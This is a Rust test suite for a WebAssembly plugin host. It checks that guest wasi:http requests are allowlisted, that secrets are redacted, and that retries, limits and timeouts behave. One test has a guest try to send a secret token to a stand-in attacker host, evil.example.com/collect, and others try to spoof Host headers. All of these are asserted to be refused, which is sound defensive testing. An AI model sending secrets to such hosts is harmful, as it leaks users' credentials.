//! `wasi:http`, the second door: a guest's `wasi:http` requests go through
//! the same pipeline as `http.send` (allowlist, placeholders, retries, the
//! per-call request limit), and a denial is a code of its own.

use std::time::Duration;

use patchbay::{Host, Limits};
use patchbay_tests::hostile::Hostile;
use serde_json::{Value, json};

use crate::pipeline::{TOKEN, builder, connect, probe_action, probe_plugins};

/// Sends one `wasi:http` request from the probe; `url` is split the way
/// `wasi:http` wants it.
async fn wasi_request(conn: &patchbay::Connection, method: &str, url: &str, extra: Value) -> Value {
    let url = url::Url::parse(url).unwrap();
    let mut spec = json!({
        "method": method,
        "scheme": url.scheme(),
        "authority": format!("{}:{}", url.host_str().unwrap(), url.port_or_known_default().unwrap()),
        "path": &url[url::Position::BeforePath..],
    });
    spec.as_object_mut().unwrap().extend(extra.as_object().unwrap().clone());
    probe_action(conn, "wasi-http", spec).await
}

#[tokio::test]
async fn requests_reach_the_upstream_with_placeholders_filled_after_the_allowlist() {
    let up = Hostile::start().await.unwrap();
    let host = builder(true).build().await.unwrap();
    let conn = connect(&host, &up.url(), None);
    let sent = wasi_request(
        &conn,
        "POST",
        &format!("{}/echo?q=1", up.url()),
        json!({
            "headers": [["authorization", "Bot {{secret.token}}"], ["content-type", "application/json"]],
            "body": "{\"content\":\"hello\"}",
        }),
    )
    .await;
    assert_eq!(sent["status"], 200, "{sent}");
    let echoed: Value = serde_json::from_str(sent["body"].as_str().unwrap()).unwrap();
    assert_eq!(echoed["method"], "POST");
    assert_eq!(echoed["uri"], "/echo?q=1");
    assert_eq!(
        up.last_request().unwrap()["headers"]["authorization"],
        format!("Bot {TOKEN}"),
        "the upstream gets the secret"
    );
    assert_eq!(
        echoed["headers"]["authorization"], "Bot [redacted]",
        "its echo does not get back to the plugin"
    );
    assert_eq!(echoed["body"], "{\"content\":\"hello\"}");
}

#[tokio::test]
async fn a_denied_request_is_distinguishable_from_a_network_failure() {
    let up = Hostile::start().await.unwrap();
    let host = builder(true).build().await.unwrap();
    let conn = connect(&host, &up.url(), None);

    let elsewhere = wasi_request(
        &conn,
        "GET",
        "https://evil.example.com/collect",
        json!({ "headers": [["x-token", "{{secret.token}}"]] }),
    )
    .await;
    assert_eq!(elsewhere["error"], "ErrorCode::HttpRequestDenied", "{elsewhere}");

    // Loopback is refused by the address guard unless private networks are allowed.
    let guarded = builder(false).build().await.unwrap();
    let conn = connect(&guarded, &up.url(), None);
    let loopback = wasi_request(&conn, "GET", &format!("{}/echo", up.url()), json!({})).await;
    assert_eq!(loopback["error"], "ErrorCode::HttpRequestDenied", "{loopback}");
    assert_eq!(up.hits("echo"), 0);

    // A port nobody listens on is a network failure, not a denial.
    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = closed.local_addr().unwrap().port();
    drop(closed);
    let conn = connect(&host, &format!("http://127.0.0.1:{port}"), None);
    let refused = wasi_request(&conn, "GET", &format!("http://127.0.0.1:{port}/"), json!({})).await;
    let error = refused["error"].as_str().unwrap_or_default();
    assert!(
        !error.is_empty() && error != "ErrorCode::HttpRequestDenied",
        "{refused}"
    );
}

#[tokio::test]
async fn transient_failures_are_retried_by_the_host() {
    let up = Hostile::start().await.unwrap();
    let host = builder(true).build().await.unwrap();
    let conn = connect(&host, &up.url(), None);
    let recovered = wasi_request(&conn, "GET", &format!("{}/flaky/w/2/503", up.url()), json!({})).await;
    assert_eq!(recovered["status"], 200, "{recovered}");
    assert_eq!(up.hits("flaky/w"), 3, "two 503s, then success");

    let keyed = wasi_request(
        &conn,
        "POST",
        &format!("{}/status/k/503", up.url()),
        json!({ "headers": [["idempotency-key", "k-1"]] }),
    )
    .await;
    assert_eq!(keyed["status"], 503);
    assert_eq!(
        up.hits("status/k"),
        4,
        "an Idempotency-Key header makes a POST safe to retry"
    );
}

#[tokio::test]
async fn both_doors_count_against_one_request_limit() {
    let up = Hostile::start().await.unwrap();
    let host = Host::builder()
        .plugins_dir(probe_plugins())
        .allow_private_network(true)
        .limits(Limits {
            pool_instances: 16,
            max_http_requests_per_call: 1,
            call_timeout: Duration::from_secs(20),
            ..Limits::default()
        })
        .build()
        .await
        .unwrap();
    let conn = connect(&host, &up.url(), None);
    let url = url::Url::parse(&up.url()).unwrap();
    let spec = json!({
        "wasi": {
            "scheme": "http",
            "authority": format!("127.0.0.1:{}", url.port().unwrap()),
            "path": "/status/l/200",
        },
        "contract": { "url": format!("{}/status/m/200", up.url()) },
    });
    let outcomes = probe_action(&conn, "both-doors", spec).await;
    assert_eq!(outcomes[0]["status"], 200, "{outcomes}");
    assert_eq!(outcomes[1]["error"], "denied", "{outcomes}");
    assert!(
        outcomes[1]["detail"]
            .as_str()
            .unwrap()
            .contains("already sent 1 requests")
    );
    assert_eq!(up.hits("status/m"), 0);
}

/// Security review F5: what `wasi:http` holds on the host (request bodies,
/// responses left unread) comes out of one budget per call, outside the
/// guest's memory limit; requests count when issued. A guest that opens
/// many requests with large bodies and never reads the answers gets a
/// body-size error instead of the host's memory.
#[tokio::test]
async fn wasi_http_bodies_and_responses_come_out_of_one_budget_per_call() {
    let up = Hostile::start().await.unwrap();
    let host = builder(true)
        .limits(Limits {
            pool_instances: 16,
            call_timeout: Duration::from_secs(20),
            max_wasi_http_bytes_per_call: 1024 * 1024,
            ..Limits::default()
        })
        .build()
        .await
        .unwrap();
    let conn = connect(&host, &up.url(), None);
    let url = url::Url::parse(&up.url()).unwrap();
    let hoard = probe_action(
        &conn,
        "wasi-http-hoard",
        json!({
            "scheme": "http",
            "authority": format!("{}:{}", url.host_str().unwrap(), url.port().unwrap()),
            "path": "/status/hoard/200",
            "requests": 20,
            "body_bytes": 256 * 1024,
        }),
    )
    .await;
    let outcomes = hoard["outcomes"].as_array().unwrap();
    assert_eq!(outcomes.len(), 20, "{hoard}");
    let refused = outcomes
        .iter()
        .filter(|o| o.as_str().is_some_and(|s| s.contains("HttpRequestBodySize")))
        .count();
    assert!(refused >= 16, "at most 4 bodies of 256 KiB fit a 1 MiB budget: {hoard}");
    assert!(
        up.hits("status/hoard") <= 4,
        "{} requests went out",
        up.hits("status/hoard")
    );

    // The next call has a budget of its own.
    let fresh = wasi_request(&conn, "GET", &format!("{}/status/fresh/200", up.url()), json!({})).await;
    assert_eq!(fresh["status"], 200, "{fresh}");
}

/// Security review F5: `wasi:http` header collections live on the host;
/// each is capped in size and a call's resources in number, so a guest
/// that makes and fills them without end is stopped (its call ends, the
/// host goes on) long before the host's memory.
#[tokio::test]
async fn a_fields_hoard_is_stopped_by_the_field_and_resource_caps() {
    let host = builder(true).build().await.unwrap();
    let conn = connect(&host, "http://127.0.0.1:9", None);
    let hoard = conn
        .call_json("actions.execute", &json!({ "name": "fields-hoard", "input": "{}" }))
        .await;
    match &hoard {
        Err(patchbay::CallError::Fault(message)) => assert!(
            message.contains("fields exceeds limit") || message.contains("resource table"),
            "{message}"
        ),
        Ok(report) => panic!("the hoard ran to its end: {report}"),
        Err(other) => panic!("expected a broken limit, got {other}"),
    }
    let fine = probe_action(&conn, "kv", json!({ "key": "k", "value": "v" })).await;
    assert_eq!(fine["value"], "v", "the host keeps serving");
}

#[tokio::test]
async fn headers_the_host_derives_never_leave_either_door() {
    let up = Hostile::start().await.unwrap();
    let host = builder(true).build().await.unwrap();
    let conn = connect(&host, &up.url(), None);
    let echo = format!("{}/echo", up.url());
    for (name, value) in [
        ("Host", "admin.internal"),
        // The probe declares X-Forwarded-For, not X-Forwarded-Host.
        ("X-Forwarded-Host", "admin.internal"),
        ("Content-Length", "0"),
    ] {
        // `http.send`: refused by the pipeline, naming the header.
        let sent = probe_action(
            &conn,
            "request",
            json!({"url": echo, "headers": [[name, value]], "no_retry": true}),
        )
        .await;
        assert_eq!(sent["error"], "invalid-request", "{name}: {sent}");
        assert!(sent["detail"].as_str().unwrap().contains(name), "{name}: {sent}");
        // `wasi:http`: refused too (by the fields or by the pipeline).
        let sent = wasi_request(
            &conn,
            "GET",
            &echo,
            json!({"headers": [[name.to_ascii_lowercase(), value]]}),
        )
        .await;
        assert!(sent["status"].is_null() && !sent["error"].is_null(), "{name}: {sent}");
    }
    // A declared forwarding header passes through the second door too.
    let sent = wasi_request(
        &conn,
        "GET",
        &echo,
        json!({"headers": [["x-forwarded-for", "203.0.113.7"]]}),
    )
    .await;
    let echoed: Value = serde_json::from_str(sent["body"].as_str().unwrap()).unwrap();
    assert_eq!(echoed["headers"]["x-forwarded-for"], "203.0.113.7", "{sent}");
    // Without them, the host derives Host from the URL.
    let sent = probe_action(&conn, "request", json!({"url": echo})).await;
    let echoed: Value = serde_json::from_str(sent["body"].as_str().unwrap()).unwrap();
    assert_eq!(
        echoed["headers"]["host"],
        up.url().trim_start_matches("http://"),
        "{echoed}"
    );
}

/// Issue 16, through the second door: an upstream reflecting the request
/// (a byte per chunk) hands the secret back neither in the body nor in a
/// header.
#[tokio::test]
async fn a_reflected_secret_does_not_come_back_through_wasi_http() {
    let up = Hostile::start().await.unwrap();
    let host = builder(true).build().await.unwrap();
    let conn = connect(&host, &up.url(), None);
    let sent = wasi_request(
        &conn,
        "GET",
        &format!("{}/reflect?chunk=1", up.url()),
        json!({ "headers": [["x-api-key", "{{secret.token}}"], ["authorization", "Bot {{secret.token}}"]] }),
    )
    .await;
    assert_eq!(sent["status"], 200, "{sent}");
    assert!(!sent.to_string().contains(TOKEN), "{sent}");
    let reflected: Value = serde_json::from_str(sent["body"].as_str().unwrap()).unwrap();
    assert_eq!(reflected["headers"]["authorization"], "Bot [redacted]", "{reflected}");
    let received = up.last_request().unwrap();
    assert_eq!(received["headers"]["x-api-key"], TOKEN, "the upstream got it");
}

/// Issue 16: the guest's `wasi:http` timeouts are each honoured, and the
/// error code says which one ran out.
#[tokio::test]
async fn the_guests_wasi_http_timeouts_are_each_honoured() {
    let up = Hostile::start().await.unwrap();
    let host = builder(true).build().await.unwrap();
    let conn = connect(&host, &up.url(), None);
    let trickle = format!("{}/trickle/50/300", up.url());
    let cut = wasi_request(&conn, "GET", &trickle, json!({ "between_bytes_ms": 100 })).await;
    assert_eq!(cut["error"], "ErrorCode::ConnectionReadTimeout", "{cut}");
    let slow = format!("{}/sleep/3000", up.url());
    let cut = wasi_request(&conn, "GET", &slow, json!({ "first_byte_ms": 100 })).await;
    assert_eq!(cut["error"], "ErrorCode::HttpResponseTimeout", "{cut}");
    // A generous ask passes (on another connection: the timeouts above,
    // each retried, opened this one's circuit, as failures should).
    let fresh = connect(&host, &up.url(), None);
    let fine = wasi_request(
        &fresh,
        "GET",
        &format!("{}/trickle/3/50", up.url()),
        json!({ "between_bytes_ms": 2000, "first_byte_ms": 2000, "connect_ms": 2000 }),
    )
    .await;
    assert_eq!(fine["status"], 200, "{fine}");
    assert_eq!(fine["body"], "...");
}
